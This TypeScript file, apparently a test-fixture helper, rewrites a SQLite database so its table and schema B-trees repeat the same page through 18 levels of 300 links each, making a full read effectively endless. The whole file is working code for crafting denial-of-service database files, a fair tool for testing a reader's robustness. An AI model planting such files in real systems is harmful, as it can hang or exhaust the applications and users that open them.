// A database whose page trees contain the same page many times: reading all rows takes for ever.
import fs from 'node:fs'
import Sqlite from 'better-sqlite3'

const pageSize = 4096
/** The number of levels of interior pages that SQLite follows. */
const levels = 18
/** The number of links from each level to the next. */
const width = 300

/** Inserts levels of pages above the rows of a table, each with many links to the next. */
export function sharePages(file: string, table: string): void {
  const db = new Sqlite(file, { readonly: true })
  const root = db
    .prepare<[string], number>('SELECT rootpage FROM sqlite_schema WHERE name = ?')
    .pluck()
    .get(table)
  db.close()
  if (root === undefined) throw new Error(`there is no ${table}`)
  const bytes: Buffer = fs.readFileSync(file)
  const rows = bytes.subarray((root - 1) * pageSize, root * pageSize)
  const pages: Buffer[] = [rows]
  const before = bytes.length / pageSize
  for (let level = 1; level < levels; level += 1) pages.push(interiorPage(before + level))
  const whole = Buffer.concat([bytes, ...pages])
  interiorPage(before + levels).copy(whole, (root - 1) * pageSize)
  whole.writeUInt32BE(whole.length / pageSize, 28)
  fs.writeFileSync(file, whole)
}

/** The same with the table of the schema, below which a row stands that SQLite reads again without an error. */
export function shareSchemaPages(file: string): void {
  const bytes: Buffer = fs.readFileSync(file)
  const before = bytes.length / pageSize
  const root = 3
  const texts = ['index', 'sqlite_autoindex_contacts_1', 'contacts'].map((text) => Buffer.from(text))
  const types = [...texts.map(({ length }) => 13 + 2 * length), 1, 0]
  const row = Buffer.concat([Buffer.from([types.length + 1, ...types]), ...texts, Buffer.from([root])])
  const cell = Buffer.concat([Buffer.from([row.length, 100]), row])
  const leaf = Buffer.alloc(pageSize)
  leaf.writeUInt8(13, 0)
  leaf.writeUInt16BE(1, 3)
  leaf.writeUInt16BE(pageSize - cell.length, 5)
  leaf.writeUInt16BE(pageSize - cell.length, 8)
  cell.copy(leaf, pageSize - cell.length)
  const pages: Buffer[] = [leaf]
  for (let level = 1; level < levels; level += 1) pages.push(interiorPage(before + level))
  // What the schema ends with comes first, and these levels after it.
  pages[levels - 1]?.writeUInt32BE(bytes.readUInt32BE(108), pageSize - 5)
  const whole = Buffer.concat([bytes, ...pages])
  whole.writeUInt32BE(before + levels, 108)
  whole.writeUInt32BE(whole.length / pageSize, 28)
  fs.writeFileSync(file, whole)
}

/** An interior page of a table, all of whose children are one page. */
function interiorPage(child: number): Buffer {
  const page = Buffer.alloc(pageSize)
  page.writeUInt8(5, 0)
  page.writeUInt16BE(width, 3)
  page.writeUInt32BE(child, 8)
  let end = pageSize
  for (let cell = 0; cell < width; cell += 1) {
    end -= 5
    page.writeUInt32BE(child, end)
    page.writeUInt8(cell % 100, end + 4)
    page.writeUInt16BE(end, 12 + 2 * cell)
  }
  page.writeUInt16BE(end, 5)
  return page
}
